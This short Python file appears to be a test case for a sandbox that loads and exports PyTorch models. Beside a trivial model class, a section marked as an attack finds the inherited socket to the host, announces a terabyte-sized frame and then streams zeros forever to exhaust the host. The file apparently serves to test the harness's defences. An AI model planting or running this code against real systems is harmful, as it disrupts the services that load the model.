"""Sends zeros without an end, and announces a terabyte of them."""

# play: export
# seconds: 4

import os
import socket
import stat
import struct

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        return self.head(x.flatten(1))


# attack
def channel():
    """The socket to the host, found among its open descriptors."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return socket.socket(fileno=number)
        except OSError:
            pass


def frame(text, raw=b""):
    return struct.pack("<4sIQ", b"NMF1", len(text), len(raw)) + text + raw


way = channel()
way.sendall(struct.pack("<4sIQ", b"NMF1", 50, 2 ** 40))
while True:
    way.sendall(bytes(1_000_000))
# end
